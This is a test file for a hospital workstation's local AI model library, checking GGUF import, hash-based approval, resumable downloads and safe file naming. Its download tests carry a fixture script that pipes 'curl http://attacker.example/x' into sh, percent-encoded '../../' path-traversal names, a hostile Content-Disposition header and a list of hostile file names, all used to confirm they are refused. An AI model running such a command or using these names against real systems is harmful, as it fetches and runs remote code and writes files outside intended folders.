import { createHash } from 'node:crypto'
import { mkdir, mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { HospitalConfig } from '../../electron/core/config/hospital-config.ts'
import { readHospitalConfig } from '../../electron/core/config/hospital-config.ts'
import { isWorkstationError } from '../../electron/core/errors.ts'
import { pathInside, safeModelFileName } from '../../electron/core/models/library/model-file-name.ts'
import { ModelLibrary } from '../../electron/core/models/library/model-library.ts'
import { writeTestModel } from '../../electron/core/models/test-model.ts'
import { runHuatuo } from '../support/cli.ts'
import { startModelServer, unusedPort, type ModelServer } from '../support/model-server.ts'

let dir: string
let tiny: string
let tinyBytes: Buffer
let tinySha: string
let splitFirst: string
let bench: string

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'huatuo-library-'))
  await mkdir(join(dir, 'usb'))
  tiny = join(dir, 'usb', 'HuatuoGPT2-7B.Q4_K_M.gguf')
  await writeTestModel({ out: tiny, size: 'tiny', name: 'HuatuoGPT2-7B', seed: 31 })
  tinyBytes = await readFile(tiny)
  tinySha = sha256(tinyBytes)
  splitFirst = join(dir, 'usb', 'split-00001-of-00003.gguf')
  await writeTestModel({ out: splitFirst, size: 'tiny', name: 'HuatuoGPT-o1-72B', seed: 32, parts: 3 })
  bench = join(dir, 'usb', 'bench.gguf')
  await writeTestModel({ out: bench, size: 'bench', seed: 33 })
})

afterAll(async () => {
  await rm(dir, { recursive: true, force: true })
})

let counter = 0
async function freshLibrary(overrides: Partial<HospitalConfig> = {}, options: ConstructorParameters<typeof ModelLibrary>[1] = {}) {
  const modelsDir = join(dir, `models-${++counter}`)
  const defaults = await readHospitalConfig(join(dir, 'no-hospital-config.json'), { HUATUO_DATA_DIR: dir })
  const config: HospitalConfig = { ...defaults, modelsDir, ...overrides }
  return new ModelLibrary(config, { addedBy: 'it-admin', ...options })
}

async function codeOf(promise: Promise<unknown>): Promise<string | unknown> {
  return promise.then(
    () => 'resolved',
    (error: unknown) => (isWorkstationError(error) ? error.code : error),
  )
}

/** Nothing but published models and the list: no staging, no partial files. */
async function leftovers(modelsDir: string): Promise<string[]> {
  const names = await readdir(modelsDir).catch(() => [] as string[])
  return names.filter((name) => name.startsWith('.staging-') || name.startsWith('.removing-'))
}

describe('import', () => {
  it('copies the file into its own folder, hashes it while copying, inspects it, and records who added it', async () => {
    const library = await freshLibrary()
    const progress: number[] = []
    const result = await library.import(tiny, { onProgress: (p) => progress.push(p.doneBytes) })
    expect(result.alreadyPresent).toBe(false)
    expect(result.model).toMatchObject({
      id: tinySha.slice(0, 16),
      sha256: tinySha,
      name: 'HuatuoGPT2-7B',
      promptFormat: 'huatuo-ii',
      family: 'ii',
      addedBy: 'it-admin',
      source: { kind: 'import', path: tiny },
      sizeBytes: tinyBytes.length,
    })
    const [entry] = await library.list()
    expect(entry!.path).toBe(join(library.modelsDir, entry!.folder, basename(tiny)))
    expect(sha256(await readFile(entry!.path))).toBe(tinySha)
    expect(entry!.missing).toBe(false)
    expect(progress.at(-1)).toBe(tinyBytes.length)
    // The same file again adds nothing.
    expect((await library.import(tiny)).alreadyPresent).toBe(true)
    expect(await library.list()).toHaveLength(1)
    expect(await leftovers(library.modelsDir)).toEqual([])
  })

  it('imports every part of a split model together', async () => {
    const library = await freshLibrary()
    const { model } = await library.import(join(dir, 'usb', 'split-00002-of-00003.gguf'))
    expect(model.files.map((file) => file.name)).toEqual(['split-00001-of-00003.gguf', 'split-00002-of-00003.gguf', 'split-00003-of-00003.gguf'])
    for (const file of model.files) {
      expect(sha256(await readFile(join(library.modelsDir, model.folder, file.name)))).toBe(file.sha256)
    }
    expect(model.family).toBe('o1')
  })

  it('a split model with a part missing is refused before anything is copied', async () => {
    const usb = join(dir, 'usb-partial')
    await mkdir(usb)
    await writeTestModel({ out: join(usb, 'part-00001-of-00002.gguf'), size: 'tiny', seed: 34, parts: 2 })
    await rm(join(usb, 'part-00002-of-00002.gguf'))
    const library = await freshLibrary()
    expect(await codeOf(library.import(join(usb, 'part-00001-of-00002.gguf')))).toBe('MODEL_PART_MISSING')
    expect(await library.list()).toEqual([])
  })

  it('cancelled mid-copy: nothing is left behind', async () => {
    const library = await freshLibrary()
    const cancel = new AbortController()
    const outcome = codeOf(library.import(bench, { signal: cancel.signal, onProgress: () => cancel.abort() }))
    expect(await outcome).toBe('REQUEST_CANCELLED')
    expect(await library.list()).toEqual([])
    expect(await leftovers(library.modelsDir)).toEqual([])
  })

  it('refuses when the disk has no room for the copy (DISK_FULL), before copying', async () => {
    const library = await freshLibrary({}, { freeSpace: async () => 100 * 2 ** 20 })
    const error = await library.import(bench).catch((e: unknown) => e)
    expect(isWorkstationError(error, 'DISK_FULL')).toBe(true)
    expect(await library.list()).toEqual([])
    expect(await leftovers(library.modelsDir)).toEqual([])
  })

  it('a hash that does not match what was expected: MODEL_HASH_MISMATCH, nothing kept', async () => {
    const library = await freshLibrary()
    expect(await codeOf(library.import(tiny, { expectedSha256: 'ab'.repeat(32) }))).toBe('MODEL_HASH_MISMATCH')
    expect(await library.list()).toEqual([])
    expect(await leftovers(library.modelsDir)).toEqual([])
    expect((await library.import(tiny, { expectedSha256: tinySha.toUpperCase() })).model.sha256).toBe(tinySha)
  })

  it('refuses a file that is not a GGUF model', async () => {
    const notes = join(dir, 'usb', 'notes.gguf')
    await writeFile(notes, '门诊记录\n')
    const library = await freshLibrary()
    expect(await codeOf(library.import(notes))).toBe('MODEL_NOT_GGUF')
    expect(await codeOf(library.import(join(dir, 'usb', 'nothing.gguf')))).toBe('MODEL_UNREADABLE')
  })

  it('refuses a model file with no weights before copying it (MODEL_CORRUPT)', async () => {
    const empty = join(dir, 'usb', 'no-weights.gguf')
    await writeTestModel({ out: empty, size: 'tiny', seed: 35, withoutWeights: true })
    const library = await freshLibrary()
    const error = await library.import(empty).catch((e: unknown) => e)
    expect(isWorkstationError(error, 'MODEL_CORRUPT')).toBe(true)
    expect((error as { detail?: string }).detail).toContain('no weights')
    expect(await library.list()).toEqual([])
    expect(await leftovers(library.modelsDir)).toEqual([])
  })

  it('cleans up what an import killed mid-copy left (a staging folder of a dead process)', async () => {
    const library = await freshLibrary()
    await mkdir(join(library.modelsDir, '.staging-999999-abc'), { recursive: true })
    await writeFile(join(library.modelsDir, '.staging-999999-abc', 'half.gguf'), 'GGUF')
    await library.list()
    expect(await leftovers(library.modelsDir)).toEqual([])
  })
})

describe('governance', () => {
  it('imports only approved models when the hospital lists approved hashes', async () => {
    const refused = await freshLibrary({ approvedModelSha256: ['cd'.repeat(32)] })
    const error = await refused.import(tiny).catch((e: unknown) => e)
    expect(isWorkstationError(error, 'MODEL_NOT_APPROVED')).toBe(true)
    expect(await refused.list()).toEqual([])
    expect(await leftovers(refused.modelsDir)).toEqual([])

    const approved = await freshLibrary({ approvedModelSha256: [tinySha] })
    const { model } = await approved.import(tiny)
    expect(model.sha256).toBe(tinySha)
  })

  it('lists each model as approved or not under the list as it is now, and refuses to load one taken off it', async () => {
    const before = await freshLibrary({ approvedModelSha256: [tinySha] })
    const { model } = await before.import(tiny)
    expect((await before.list()).map((entry) => [entry.id, entry.approved])).toEqual([[model.id, true]])
    // IT takes the model off the list (a new configuration, the same models folder).
    const after = new ModelLibrary({ ...before.config, approvedModelSha256: ['cd'.repeat(32)] }, { addedBy: 'it-admin' })
    const [entry] = await after.list()
    expect(entry).toMatchObject({ id: model.id, approved: false })
    expect(await codeOf(after.ensureLoadAllowed(entry!.path))).toBe('MODEL_NOT_APPROVED')
    // No list at all: every model is approved.
    const open = new ModelLibrary({ ...before.config, approvedModelSha256: null }, { addedBy: 'it-admin' })
    expect((await open.list())[0]?.approved).toBe(true)
  })

  it('a split model is approved only when every part is', async () => {
    const parts = ['00001', '00002', '00003'].map((n) => join(dir, 'usb', `split-${n}-of-00003.gguf`))
    const hashes = await Promise.all(parts.map(async (part) => sha256(await readFile(part))))
    expect(await codeOf((await freshLibrary({ approvedModelSha256: hashes.slice(0, 2) })).import(parts[0]!))).toBe('MODEL_NOT_APPROVED')
    expect((await (await freshLibrary({ approvedModelSha256: hashes })).import(parts[0]!)).alreadyPresent).toBe(false)
  })

  it('checks a load against the list: by the recorded hash for library models, hashing anything else', async () => {
    const library = await freshLibrary({ approvedModelSha256: [tinySha] })
    const { model } = await library.import(tiny)
    const inLibrary = join(library.modelsDir, model.folder, model.files[0]!.name)
    await expect(library.ensureLoadAllowed(inLibrary)).resolves.toBeUndefined()
    // The same bytes outside the library are allowed too (hashed now)…
    await expect(library.ensureLoadAllowed(tiny)).resolves.toBeUndefined()
    // …but not another model.
    expect(await codeOf(library.ensureLoadAllowed(bench))).toBe('MODEL_NOT_APPROVED')
    // A library file changed behind the workstation's back is hashed again, and refused.
    await writeFile(inLibrary, Buffer.concat([tinyBytes, Buffer.from('x')]))
    await utimes(inLibrary, new Date(), new Date(Date.now() + 5000))
    expect(await codeOf(library.ensureLoadAllowed(inLibrary))).toBe('MODEL_NOT_APPROVED')
  })

  it('reads the approval list from the hospital configuration file', async () => {
    const path = join(dir, 'hospital.json')
    await writeFile(path, JSON.stringify({ approvedModelSha256: [tinySha.toUpperCase()], downloadBaseUrl: 'https://hf-mirror.com/' }))
    const config = await readHospitalConfig(path, {})
    expect(config.approvedModelSha256).toEqual([tinySha])
    expect(config.downloadBaseUrl).toBe('https://hf-mirror.com')
    await writeFile(path, JSON.stringify({ approvedModelSha256: ['not-a-hash'] }))
    expect(await codeOf(readHospitalConfig(path, {}))).toBe('CONFIG_INVALID')
    expect((await readHospitalConfig(join(dir, 'absent.json'), {})).approvedModelSha256).toBeNull()
  })
})

describe('remove', () => {
  it('asks for confirmation, then removes the files and the entry', async () => {
    const library = await freshLibrary()
    const { model } = await library.import(tiny)
    expect(await codeOf(library.remove(model.id, false))).toBe('CONFIRMATION_REQUIRED')
    expect(await library.list()).toHaveLength(1)
    await library.remove(model.id.slice(0, 8), true)
    expect(await library.list()).toEqual([])
    expect(await readdir(library.modelsDir)).toEqual(['library.json'])
    expect(await codeOf(library.remove(model.id, true))).toBe('MODEL_NOT_FOUND')
  })
})

/** Every file name under `root`, at any depth. */
async function filesUnder(root: string): Promise<string[]> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true })
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name))
}

describe('download', () => {
  let server: ModelServer
  const path = '/hospital/HuatuoGPT2-7B-GGUF/resolve/main/HuatuoGPT2-7B.Q4_K_M.gguf'
  const plainPath = '/files/plain.gguf'
  const liarPath = '/files/liar.gguf'
  const vanishingPath = '/files/vanishing.gguf'
  const dispositionPath = '/files/named-by-us.gguf'
  const htmlPath = '/files/error-page.gguf'
  const script = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n')

  beforeAll(async () => {
    server = await startModelServer({
      [path]: { body: tinyBytes, etag: `"${tinySha}"` },
      [plainPath]: { body: tinyBytes },
      [liarPath]: { body: tinyBytes, etag: `"${'ef'.repeat(32)}"` },
      [vanishingPath]: { body: tinyBytes },
      // The server decodes paths, so these answer the percent-encoded ../../ names below.
      '/script/../../x.gguf': { body: script },
      '/model/../../x.gguf': { body: tinyBytes },
      [dispositionPath]: { body: tinyBytes, headers: { 'Content-Disposition': `attachment; filename="../../evil.gguf"; filename*=UTF-8''..%2F..%2Fevil.gguf` } },
      // A portal's sign-in page served with 200 instead of the model, 8 MiB of it.
      [htmlPath]: { body: Buffer.concat([Buffer.from('<!DOCTYPE html><html><body>请登录</body></html>'), Buffer.alloc(8 * 2 ** 20, 0x20)]) },
    })
  })
  afterAll(() => server.close())

  it('downloads a catalog model through the configured base URL and records its hash', async () => {
    const catalogPath = join(dir, 'catalog.json')
    await writeFile(
      catalogPath,
      JSON.stringify({
        version: 1,
        models: [
          {
            id: 'huatuogpt2-7b-q4km',
            name: 'HuatuoGPT2-7B',
            family: 'ii',
            promptFormat: 'huatuo-ii',
            architecture: 'baichuan',
            languages: ['zh-CN'],
            quantization: 'Q4_K_M',
            repository: 'hospital/HuatuoGPT2-7B-GGUF',
            files: ['HuatuoGPT2-7B.Q4_K_M.gguf'],
            sizeBytes: tinyBytes.length,
          },
        ],
      }),
    )
    const library = await freshLibrary({ downloadBaseUrl: server.url }, { catalogPath })
    const { model } = await library.download('huatuogpt2-7b-q4km')
    expect(model).toMatchObject({ sha256: tinySha, source: { kind: 'download', url: `${server.url}${path}`, catalogId: 'huatuogpt2-7b-q4km' } })
    expect(sha256(await readFile((await library.list())[0]!.path))).toBe(tinySha)
    expect(await codeOf(library.download('no-such-model'))).toBe('CATALOG_ENTRY_UNKNOWN')
  })

  it('resumes with a Range request after the connection is cut mid-file', async () => {
    const library = await freshLibrary()
    server.once(plainPath, { cutAfterBytes: 100_000 })
    expect(await codeOf(library.download(`${server.url}${plainPath}`))).toBe('DOWNLOAD_FAILED')
    expect(await library.list()).toEqual([])
    const before = server.requests.length
    const { model } = await library.download(`${server.url}${plainPath}`)
    expect(model.sha256).toBe(tinySha)
    const resumed = server.requests.slice(before)
    expect(resumed).toHaveLength(1)
    expect(Number(/bytes=(\d+)-/.exec(resumed[0]!.range ?? '')?.[1])).toBeGreaterThan(0)
    expect(await readdir(join(library.modelsDir, '.downloads'))).toEqual([])
  })

  it('a stalled server pauses the download (DOWNLOAD_STALLED); the next run finishes it', async () => {
    const library = await freshLibrary({ downloadStallMs: 300 })
    server.once(plainPath, { stallAfterBytes: 50_000 })
    expect(await codeOf(library.download(`${server.url}${plainPath}`))).toBe('DOWNLOAD_STALLED')
    expect((await library.download(`${server.url}${plainPath}`)).model.sha256).toBe(tinySha)
  })

  it('starts over when the server ignores the range', async () => {
    const library = await freshLibrary()
    server.once(plainPath, { cutAfterBytes: 70_000 })
    await library.download(`${server.url}${plainPath}`).catch(() => undefined)
    server.once(plainPath, 'ignore-range')
    expect((await library.download(`${server.url}${plainPath}`)).model.sha256).toBe(tinySha)
  })

  it('a 404, a server that is not there, a hash the server contradicts', async () => {
    const library = await freshLibrary()
    expect(await codeOf(library.download(`${server.url}/files/missing.gguf`))).toBe('DOWNLOAD_NOT_FOUND')
    expect(await codeOf(library.download(`http://127.0.0.1:${await unusedPort()}/model.gguf`))).toBe('NETWORK_OFFLINE')
    expect(await codeOf(library.download(`${server.url}${liarPath}`))).toBe('MODEL_HASH_MISMATCH')
    expect(await codeOf(library.download(`${server.url}/files/readme.txt`))).toBe('CATALOG_ENTRY_UNKNOWN')
    expect(await library.list()).toEqual([])
    expect(await leftovers(library.modelsDir)).toEqual([])
  })

  it('downloads switched off by IT are refused before any traffic', async () => {
    const library = await freshLibrary({ downloadsEnabled: false })
    const before = server.requests.length
    expect(await codeOf(library.download(`${server.url}${plainPath}`))).toBe('DOWNLOADS_DISABLED')
    expect(server.requests.length).toBe(before)
  })

  it('refuses a download that cannot fit on the disk', async () => {
    const library = await freshLibrary({}, { freeSpace: async () => 1024 })
    expect(await codeOf(library.download(`${server.url}${plainPath}`))).toBe('DISK_FULL')
  })

  it('huatuo models: download prints the SHA-256, list and remove work from the command line', async () => {
    const modelsDir = join(dir, 'cli-models')
    server.once(plainPath, { cutAfterBytes: 90_000 })
    const cut = await runHuatuo(['models', 'download', `${server.url}${plainPath}`, '--models-dir', modelsDir])
    expect(cut.status).toBe(1)
    expect(cut.stderr).toMatch(/^DOWNLOAD_FAILED: /m)
    const resumed = await runHuatuo(['models', 'download', `${server.url}${plainPath}`, '--models-dir', modelsDir])
    expect(resumed.status).toBe(0)
    expect(resumed.stdout).toContain(`sha256 ${tinySha}`)
    const list = await runHuatuo(['models', 'list', '--models-dir', modelsDir, '--json'])
    const models = JSON.parse(list.stdout) as { id: string; sha256: string }[]
    expect(models.map((m) => m.sha256)).toEqual([tinySha])
    const refused = await runHuatuo(['models', 'remove', models[0]!.id, '--models-dir', modelsDir])
    expect(refused.status).toBe(1)
    expect(refused.stderr).toMatch(/^CONFIRMATION_REQUIRED: /m)
    const removed = await runHuatuo(['models', 'remove', models[0]!.id, '--models-dir', modelsDir, '--yes'])
    expect(removed.status).toBe(0)
    expect((await stat(join(modelsDir, 'library.json'))).isFile()).toBe(true)
    expect(JSON.parse((await runHuatuo(['models', 'list', '--models-dir', modelsDir, '--json'])).stdout)).toEqual([])
  })

  it('a name that decodes to ../ is refused before any traffic; nothing is written outside the models folder, or kept', async () => {
    const root = await mkdtemp(join(tmpdir(), 'huatuo-hostile-'))
    try {
      const library = await freshLibrary({ modelsDir: join(root, 'a', 'b', 'models') })
      const before = server.requests.length
      for (const prefix of ['/script/', '/model/']) {
        expect(await codeOf(library.download(`${server.url}${prefix}%2E%2E%2F%2E%2E%2Fx.gguf`))).toBe('DOWNLOAD_NAME_UNSAFE')
        expect(await codeOf(library.download(`${server.url}${prefix}..%5C..%5Cx.gguf`))).toBe('DOWNLOAD_NAME_UNSAFE')
      }
      expect(server.requests.length).toBe(before)
      expect((await filesUnder(root)).filter((file) => file.endsWith('x.gguf'))).toEqual([])
      expect(await library.list()).toEqual([])
      expect(await leftovers(library.modelsDir)).toEqual([])
    } finally {
      await rm(root, { recursive: true, force: true })
    }
  })

  it('names the file from the address, never from the server\'s Content-Disposition', async () => {
    const root = await mkdtemp(join(tmpdir(), 'huatuo-disposition-'))
    try {
      const library = await freshLibrary({ modelsDir: join(root, 'models') })
      const { model } = await library.download(`${server.url}${dispositionPath}`)
      expect(model.files.map((file) => file.name)).toEqual(['named-by-us.gguf'])
      expect((await filesUnder(root)).filter((file) => file.includes('evil'))).toEqual([])
    } finally {
      await rm(root, { recursive: true, force: true })
    }
  })

  it('a server sending something that is not a GGUF model is refused at once (MODEL_NOT_GGUF), and nothing of it is kept', async () => {
    // A stall after the first bytes: a download that went on to the end would report DOWNLOAD_STALLED instead.
    const library = await freshLibrary({ downloadStallMs: 10_000 })
    server.once(htmlPath, { stallAfterBytes: 64 * 1024 })
    const started = Date.now()
    expect(await codeOf(library.download(`${server.url}${htmlPath}`))).toBe('MODEL_NOT_GGUF')
    expect(Date.now() - started).toBeLessThan(5000)
    expect(await filesUnder(library.modelsDir)).toEqual([])
    expect(await library.list()).toEqual([])
  })

  it('an interrupted download keeps its partial file to resume; one the server no longer has is removed', async () => {
    const library = await freshLibrary()
    server.once(vanishingPath, { cutAfterBytes: 100_000 })
    expect(await codeOf(library.download(`${server.url}${vanishingPath}`))).toBe('DOWNLOAD_FAILED')
    expect((await filesUnder(library.modelsDir)).map((file) => basename(file)).sort()).toEqual(['vanishing.gguf.part', 'vanishing.gguf.part.json'])
    server.once(vanishingPath, 'not-found')
    expect(await codeOf(library.download(`${server.url}${vanishingPath}`))).toBe('DOWNLOAD_NOT_FOUND')
    expect(await filesUnder(library.modelsDir)).toEqual([])
  })

})

describe('download file names', () => {
  it('accepts plain .gguf names, Chinese ones included', () => {
    for (const name of ['HuatuoGPT2-7B.Q4_K_M.gguf', 'HuatuoGPT-o1-72B-Q4_K_M-00001-of-00003.gguf', '华佗 模型.gguf']) {
      expect(safeModelFileName(name, 'test')).toBe(name)
    }
  })

  it('refuses separators, "..", control characters, hidden, device and overlong names', () => {
    const hostile = [
      '../x.gguf',
      '..\\x.gguf',
      'a/b.gguf',
      '/etc/x.gguf',
      'C:x.gguf',
      '..gguf',
      'x\u0000.gguf',
      'x\n.gguf',
      'x\u202e.fuggf.gguf',
      '.hidden.gguf',
      'NUL.gguf',
      'com1.gguf',
      'x.gguf.',
      `${'模'.repeat(80)}.gguf`,
      'model.bin',
      '',
    ]
    for (const name of hostile) {
      let code: unknown = 'accepted'
      try {
        safeModelFileName(name, 'test')
      } catch (error) {
        code = isWorkstationError(error) ? error.code : error
      }
      expect([name, code]).toEqual([name, 'DOWNLOAD_NAME_UNSAFE'])
    }
  })

  it('a path is only ever directly inside its folder', () => {
    expect(pathInside('/models/.downloads/k', 'a.gguf')).toBe('/models/.downloads/k/a.gguf')
    for (const name of ['../a.gguf', 'sub/a.gguf', '/tmp/a.gguf', '.']) {
      expect(() => pathInside('/models/.downloads/k', name)).toThrow()
    }
  })
})
